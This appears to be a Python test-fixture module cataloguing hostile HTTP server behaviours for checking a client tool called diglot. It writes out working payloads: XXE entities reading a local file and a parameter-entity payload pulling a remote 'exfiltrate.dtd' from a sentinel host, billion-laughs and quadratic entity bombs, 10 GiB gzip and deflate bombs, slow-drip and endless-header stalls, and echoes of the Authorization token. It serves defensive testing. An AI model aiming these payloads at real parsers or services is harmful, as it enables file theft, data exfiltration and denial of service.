"""The hostile behaviours, as data: name → what the server does and what diglot must say.

Each ``Behaviour`` answers *every* request (any path, any method) the same hostile way, in
the content type the request asked for (``Accept``) where it applies to both. Tests run it
through ``Transport.send`` and the parsers; run-level tests can start ``HostileServer`` with
``behaviour.handler``, run ``diglot run --base-url server.base_url --content-types …`` with
the behaviour's content types, and match ``must_say`` against the findings.

``layer`` says where the problem shows:

- ``failure``: ``Transport.send`` returns no response, and its sentence matches ``must_say``;
- ``body``: a response comes back, and the parser for the content type raises a
  ``BodyProblem`` whose message matches ``must_say``;
- ``response``: a readable response that the contract checks must flag (``must_say`` is what
  their finding should mention), or, for the token echoes, must keep clean.
"""

from __future__ import annotations

import base64
import functools
import json
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from types import MappingProxyType
from typing import Literal

from tests.hostile.server import Context, Handler, Peer, RawRequest

Layer = Literal["failure", "body", "response"]
BOTH = ("json", "xml")
NS = "http://www.docusign.com/restapi"

_JSON_PAGE = (
    b'{"groups":[{"groupId":"8001","groupName":"Hostile","groupType":"customGroup",'
    b'"permissionProfileId":"1597","usersCount":"0"}],"resultSetSize":"1",'
    b'"startPosition":"0","endPosition":"0","totalSetSize":"1"}'
)
_XML_PAGE = (
    f'<groupInformation xmlns="{NS}" xmlns:i="http://www.w3.org/2001/XMLSchema-instance">'
    "<endPosition>0</endPosition><groups><group><groupId>8001</groupId>"
    "<groupName>Hostile</groupName><groupType>customGroup</groupType>"
    "<permissionProfileId>1597</permissionProfileId><usersCount>0</usersCount></group>"
    "</groups><resultSetSize>1</resultSetSize><startPosition>0</startPosition>"
    "<totalSetSize>1</totalSetSize></groupInformation>"
).encode()
_MEDIA = {"json": "application/json; charset=utf-8", "xml": "application/xml; charset=utf-8"}
_FOREVER = 3600.0


@dataclass(frozen=True, slots=True)
class Behaviour:
    """One way to misbehave.

    Attributes:
        name: the catalogue key.
        summary: what the server does, in a few words.
        layer: where the problem shows (module docstring).
        content_types: the content types it applies to.
        must_say: a case-insensitive regular expression the failure sentence, the
            ``BodyProblem`` or the finding must match; None when nothing needs saying (the
            token echoes, where the point is that the token is absent).
        handler: the server side.
        exit_codes: the exit codes a full ``diglot run`` may end with (3 where every request
            fails, so the target may be judged unusable as a whole).
        slow: it takes the whole time limit of a request.
    """

    name: str
    summary: str
    layer: Layer
    content_types: tuple[str, ...]
    must_say: str | None
    handler: Handler
    exit_codes: frozenset[int] = frozenset({1})
    slow: bool = False


# --- answering helpers ---------------------------------------------------------------------


def _head(status: str, headers: list[tuple[str, str]]) -> bytes:
    lines = [f"HTTP/1.1 {status}", *(f"{name}: {value}" for name, value in headers)]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def _answer(
    peer: Peer,
    body: bytes,
    *,
    status: str = "200 OK",
    media: str | None = None,
    extra: list[tuple[str, str]] | None = None,
) -> bool:
    headers = [("Content-Length", str(len(body)))]
    if media is not None:
        headers.append(("Content-Type", media))
    headers += extra or []
    return peer.send(_head(status, headers) + body)


def _page(request: RawRequest) -> bytes:
    return _XML_PAGE if request.content_type == "xml" else _JSON_PAGE


def _body(content_type: str, data: bytes) -> Handler:
    """Answer 200 with ``data`` labelled as ``content_type``."""

    def handler(peer: Peer, request: RawRequest, context: Context) -> bool:
        return _answer(peer, data, media=_MEDIA[content_type])

    return handler


def _xml(template: str) -> Handler:
    """Answer 200 with an XML document naming the marker file and the sentinel."""

    def handler(peer: Peer, request: RawRequest, context: Context) -> bool:
        text = template.format(
            file=context.marker_path.as_uri(), sentinel=context.sentinel_url, ns=NS
        )
        return _answer(peer, text.encode(), media=_MEDIA["xml"])

    return handler


# --- XML attacks -----------------------------------------------------------------------------

_GROUP_WITH = (
    '<groupInformation xmlns="{ns}"><groups><group><groupName>{value}</groupName></group>'
    "</groups><resultSetSize>1</resultSetSize></groupInformation>"
)
_XXE_FILE = (
    '<?xml version="1.0"?><!DOCTYPE groupInformation [<!ENTITY xxe SYSTEM "{file}">]>'
    + _GROUP_WITH.replace("{value}", "&xxe;")
)
_XXE_PARAMETER = (
    '<?xml version="1.0"?><!DOCTYPE groupInformation [<!ENTITY % file SYSTEM "{file}">'
    '<!ENTITY % dtd SYSTEM "{sentinel}/exfiltrate.dtd">%dtd;%file;]>'
    + _GROUP_WITH.replace("{value}", "x")
)
_XXE_NETWORK = (
    '<?xml version="1.0"?><!DOCTYPE groupInformation '
    '[<!ENTITY net SYSTEM "{sentinel}/entity.xml">]>' + _GROUP_WITH.replace("{value}", "&net;")
)
_EXTERNAL_DTD = (
    '<?xml version="1.0"?><!DOCTYPE groupInformation SYSTEM "{sentinel}/restapi.dtd">'
    + _GROUP_WITH.replace("{value}", "x")
)


@functools.cache
def _billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return (
        f'<?xml version="1.0"?><!DOCTYPE groupInformation [{"".join(entities)}]>'
        + _GROUP_WITH.format(ns=NS, value="&lol9;")
    ).encode()


@functools.cache
def _quadratic_blowup() -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE groupInformation [<!ENTITY a "{"a" * 50_000}">]>'
        + _GROUP_WITH.format(ns=NS, value="&a;" * 20_000)
    ).encode()


@functools.cache
def _deep_xml() -> bytes:
    return b"<a>" * 100_000 + b"</a>" * 100_000


# --- JSON oddities ---------------------------------------------------------------------------


@functools.cache
def _deep_json() -> bytes:
    return b"[" * 100_000 + b"]" * 100_000


_JSON_DUPLICATE = (
    b'{"groups":[{"groupId":"8001","groupName":"first","groupName":"second"}],'
    b'"resultSetSize":"1","totalSetSize":"1"}'
)
_JSON_NAN = b'{"groups":[],"resultSetSize":NaN,"startPosition":Infinity,"endPosition":-Infinity}'
_JSON_HUGE_NUMBER = b'{"groups":[],"resultSetSize":' + b"9" * 100_000 + b"}"
_JSON_CONTROL = b'{"groups":[{"groupId":"8001","groupName":"tab\there\x01"}]}'
_JSON_BAD_UTF8 = b'{"groups":[{"groupId":"8001","groupName":"caf\xe9 \xff\xfe"}]}'
_JSON_TRUNCATED = _JSON_PAGE[: len(_JSON_PAGE) // 2]
_JSON_BOM = b"\xef\xbb\xbf" + _JSON_PAGE


# --- transport -------------------------------------------------------------------------------

_BLOCK = b"a" * 65536


def _huge_body(peer: Peer, request: RawRequest, context: Context) -> bool:
    """Announce 2 GiB and stream it from one 64 KiB block until the client hangs up."""
    size = 2 * 2**30
    head = [("Content-Length", str(size)), ("Content-Type", _MEDIA[request.content_type])]
    if not peer.send(_head("200 OK", head)):
        return False
    sent = 0
    while sent < size and peer.send(_BLOCK):
        sent += len(_BLOCK)
    return False


def _endless_chunks(peer: Peer, request: RawRequest, context: Context) -> bool:
    head = [("Transfer-Encoding", "chunked"), ("Content-Type", _MEDIA[request.content_type])]
    if not peer.send(_head("200 OK", head)):
        return False
    chunk = b"%x\r\n" % len(_BLOCK) + _BLOCK + b"\r\n"
    while peer.send(chunk):
        pass
    return False


@functools.cache
def _bomb_pieces(wbits: int) -> tuple[bytes, bytes, bytes]:
    """The first, repeated and last compressed pieces of 10 GiB of zeros, 1 MiB at a time.

    After a full flush the compressor starts afresh, so every further MiB of zeros compresses
    to the same bytes: the bomb is streamed without ever being built.
    """
    block = bytes(2**20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert again == repeated
    last = compressor.flush()
    if wbits == 15:  # zlib trailer: Adler-32 of n zeros is (n mod 65521) << 16 | 1
        size = 10 * 2**30
        last = last[:-4] + (((size % 65521) << 16) | 1).to_bytes(4, "big")
    # gzip's CRC-32 trailer would take seconds to compute for 10 GiB; it stays that of the
    # first 3 MiB, which nothing reads unless it inflated all 10 GiB first.
    return first, repeated, last


def _bomb(encoding: str) -> Handler:
    def handler(peer: Peer, request: RawRequest, context: Context) -> bool:
        first, repeated, last = _bomb_pieces(31 if encoding == "gzip" else 15)
        blocks = 10 * 2**10
        length = len(first) + len(repeated) * (blocks - 1) + len(last)
        head = [
            ("Content-Length", str(length)),
            ("Content-Type", _MEDIA[request.content_type]),
            ("Content-Encoding", encoding),
        ]
        if not peer.send(_head("200 OK", head) + first):
            return False
        for _ in range(blocks - 1):
            if not peer.send(repeated):
                return False
        return peer.send(last)

    return handler


def _drip(peer: Peer, request: RawRequest, context: Context) -> bool:
    body = _page(request)
    media = _MEDIA[request.content_type]
    response = _head("200 OK", [("Content-Length", str(len(body))), ("Content-Type", media)])
    peer.drip(response + body, 1.0)
    return False


def _endless_headers(peer: Peer, request: RawRequest, context: Context) -> bool:
    if not peer.send(b"HTTP/1.1 200 OK\r\n"):
        return False
    line = 0
    while peer.send(f"X-Still-Coming-{line}: yes\r\n".encode()) and peer.sleep(0.5):
        line += 1
    return False


def _silent(peer: Peer, request: RawRequest, context: Context) -> bool:
    peer.sleep(_FOREVER)
    return False


def _reset_mid_body(peer: Peer, request: RawRequest, context: Context) -> bool:
    head = [("Content-Length", "1000000"), ("Content-Type", _MEDIA[request.content_type])]
    peer.send(_head("200 OK", head) + _page(request) + b" " * 10_000)
    peer.sleep(0.1)
    peer.reset()
    return False


def _empty_reply(peer: Peer, request: RawRequest, context: Context) -> bool:
    return False


def _bad_status_line(peer: Peer, request: RawRequest, context: Context) -> bool:
    body = _page(request)
    peer.send(b"HTTP/1.1 2OO Okay-ish\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    return False


def _many_headers(peer: Peer, request: RawRequest, context: Context) -> bool:
    body = _page(request)
    headers = [(f"x{i}", "1") for i in range(10_000)]
    headers += [("Content-Length", str(len(body))), ("Content-Type", _MEDIA[request.content_type])]
    peer.send(_head("200 OK", headers) + body)
    return False


def _huge_header(peer: Peer, request: RawRequest, context: Context) -> bool:
    body = _page(request)
    headers = [
        ("X-Huge", "h" * 2**20),
        ("Content-Length", str(len(body))),
        ("Content-Type", _MEDIA[request.content_type]),
    ]
    peer.send(_head("200 OK", headers) + body)
    return False


def _redirect_loop(peer: Peer, request: RawRequest, context: Context) -> bool:
    return _answer(peer, b"", status="302 Found", extra=[("Location", request.target)])


def _redirect_away(peer: Peer, request: RawRequest, context: Context) -> bool:
    location = context.sentinel_url + request.target
    return _answer(peer, b"", status="307 Temporary Redirect", extra=[("Location", location)])


def _wrong_type(peer: Peer, request: RawRequest, context: Context) -> bool:
    return _answer(peer, _page(request), media="text/html; charset=utf-8")


def _no_type(peer: Peer, request: RawRequest, context: Context) -> bool:
    return _answer(peer, _page(request))


# --- secrets ---------------------------------------------------------------------------------


def _echo(encode: str) -> Handler:
    """Echo the request's Authorization header into the body (and a header), encoded."""

    def handler(peer: Peer, request: RawRequest, context: Context) -> bool:
        value = request.headers.get("authorization", "")
        token = value.removeprefix("Bearer ")
        if encode == "raw":
            forms = [value, token]
        elif encode == "base64":
            forms = [
                base64.b64encode(value.encode()).decode(),
                base64.b64encode(token.encode()).decode(),
                base64.urlsafe_b64encode(f"x{token}".encode()).decode(),
                base64.b64encode(f'{{"auth":"{value}"}}'.encode()).decode(),
            ]
        elif request.content_type == "xml":
            forms = [
                "".join(f"&#{ord(char)};" for char in value),
                "".join(f"&#x{ord(char):x};" for char in token),
            ]
        else:
            forms = [
                json.dumps(value, ensure_ascii=True)[1:-1],
                "".join(f"\\u{ord(char):04x}" for char in value),
                json.dumps(token)[1:-1].replace("/", "\\/"),
            ]
        if request.content_type == "xml":
            items = "".join(f"<group><groupName>{form}</groupName></group>" for form in forms)
            body = (
                f'<groupInformation xmlns="{NS}"><groups>{items}</groups></groupInformation>'
            ).encode()
        else:
            listed = ",".join(f'{{"groupName":"{form}"}}' for form in forms)
            body = f'{{"groups":[{listed}],"echo":"{forms[0]}"}}'.encode()
        return _answer(peer, body, media=_MEDIA[request.content_type], extra=[("X-Echo", forms[0])])

    return handler


# --- the catalogue -----------------------------------------------------------------------------

_FAILS = frozenset({1, 3})

_ALL = [
    # XML attacks: no DTD is processed, no entity expanded, no file or network read.
    Behaviour("xml-external-entity-file", "XXE naming a local file", "body", ("xml",),
              r"DTD is not allowed", _xml(_XXE_FILE)),
    Behaviour("xml-parameter-entity", "parameter entities and a remote DTD to exfiltrate a file",
              "body", ("xml",), r"DTD is not allowed", _xml(_XXE_PARAMETER)),
    Behaviour("xml-network-entity", "an external entity on the network", "body", ("xml",),
              r"DTD is not allowed", _xml(_XXE_NETWORK)),
    Behaviour("xml-external-dtd", "a DOCTYPE naming a DTD on the network", "body", ("xml",),
              r"DTD is not allowed", _xml(_EXTERNAL_DTD)),
    Behaviour("xml-billion-laughs", "nested entities expanding to 10^9 'lol'", "body", ("xml",),
              r"DTD is not allowed",
              lambda peer, request, context: _answer(peer, _billion_laughs(), media=_MEDIA["xml"])),
    Behaviour("xml-quadratic-blowup", "one 50 kB entity referenced 20 000 times", "body",
              ("xml",), r"DTD is not allowed",
              lambda peer, request, context: _answer(peer, _quadratic_blowup(),
                                                     media=_MEDIA["xml"])),
    Behaviour("xml-deep-nesting", "100 000 nested elements", "body", ("xml",), r"nests deeper",
              lambda peer, request, context: _answer(peer, _deep_xml(), media=_MEDIA["xml"])),
    Behaviour("xml-truncated", "a document cut in the middle", "body", ("xml",),
              r"not well-formed", _body("xml", _XML_PAGE[: len(_XML_PAGE) // 2])),
    # JSON oddities.
    Behaviour("json-deep-nesting", "100 000 nested arrays", "body", ("json",), r"nests",
              lambda peer, request, context: _answer(peer, _deep_json(), media=_MEDIA["json"])),
    Behaviour("json-duplicate-keys", "an object with groupName twice", "body", ("json",),
              r"/groups/0 has the key 'groupName' more than once", _body("json", _JSON_DUPLICATE)),
    Behaviour("json-nan-infinity", "NaN, Infinity and -Infinity as numbers", "body", ("json",),
              r"NaN", _body("json", _JSON_NAN)),
    Behaviour("json-huge-number", "a number with 100 000 digits", "body", ("json",), r"digits",
              _body("json", _JSON_HUGE_NUMBER)),
    Behaviour("json-control-characters", "raw control characters in a string", "body",
              ("json",), r"control character", _body("json", _JSON_CONTROL)),
    Behaviour("json-invalid-utf8", "bytes that are not UTF-8", "body", ("json",), r"UTF-8",
              _body("json", _JSON_BAD_UTF8)),
    Behaviour("json-truncated", "a JSON value cut in the middle", "body", ("json",),
              r"ends before", _body("json", _JSON_TRUNCATED)),
    Behaviour("json-byte-order-mark", "a UTF-8 byte order mark first", "body", ("json",),
              r"byte order mark", _body("json", _JSON_BOM)),
    # Transport.
    Behaviour("huge-body", "a 2 GiB body, streamed", "body", BOTH, r"size limit", _huge_body),
    Behaviour("endless-chunked", "a chunked body that never ends", "body", BOTH, r"size limit",
              _endless_chunks),
    Behaviour("gzip-bomb", "10 MB of gzip inflating to 10 GiB", "body", BOTH, r"size limit",
              _bomb("gzip")),
    Behaviour("deflate-bomb", "10 MB of deflate inflating to 10 GiB", "body", BOTH,
              r"size limit", _bomb("deflate")),
    Behaviour("one-byte-a-second", "the whole response, one byte a second", "failure", BOTH,
              r"time limit", _drip, _FAILS, slow=True),
    Behaviour("headers-never-finish", "a new header line every half second, forever",
              "failure", BOTH, r"time limit", _endless_headers, _FAILS, slow=True),
    Behaviour("never-answers", "accepts, reads the request, never answers", "failure", BOTH,
              r"time limit", _silent, _FAILS, slow=True),
    Behaviour("reset-mid-body", "a TCP reset after 10 kB of a 1 MB body", "failure", BOTH,
              r"reset|closed before the body", _reset_mid_body, _FAILS),
    Behaviour("empty-reply", "closes the connection without a byte", "failure", BOTH,
              r"empty reply", _empty_reply, _FAILS),
    Behaviour("malformed-status-line", "a status line with letters for digits", "failure",
              BOTH, r"status line", _bad_status_line, _FAILS),
    Behaviour("many-headers", "10 000 header lines", "failure", BOTH, r"header", _many_headers,
              _FAILS),
    Behaviour("huge-header", "one header of 1 MiB", "failure", BOTH, r"header", _huge_header,
              _FAILS),
    Behaviour("redirect-loop", "302 to the same URL, forever", "response", BOTH, r"\b302\b",
              _redirect_loop),
    Behaviour("redirect-other-host", "307 to another host (the sentinel)", "response", BOTH,
              r"\b307\b", _redirect_away),
    Behaviour("wrong-content-type", "the right body labelled text/html", "response", BOTH,
              r"content-type", _wrong_type),
    Behaviour("missing-content-type", "the right body without Content-Type", "response", BOTH,
              r"content-type", _no_type),
    # Secrets.
    Behaviour("echo-authorization-raw", "echoes the Authorization header as it came",
              "response", BOTH, None, _echo("raw")),
    Behaviour("echo-authorization-base64", "echoes the Authorization header in base64",
              "response", BOTH, None, _echo("base64")),
    Behaviour("echo-authorization-escaped", "echoes it \\u-escaped (JSON) or as &#NN; (XML)",
              "response", BOTH, None, _echo("json")),
]  # fmt: skip

BEHAVIOURS: Mapping[str, Behaviour] = MappingProxyType({b.name: b for b in _ALL})
"""Every hostile behaviour, by name."""


def cases() -> list[tuple[str, str]]:
    """Every (behaviour name, content type) pair to test."""
    return [(b.name, content_type) for b in _ALL for content_type in b.content_types]
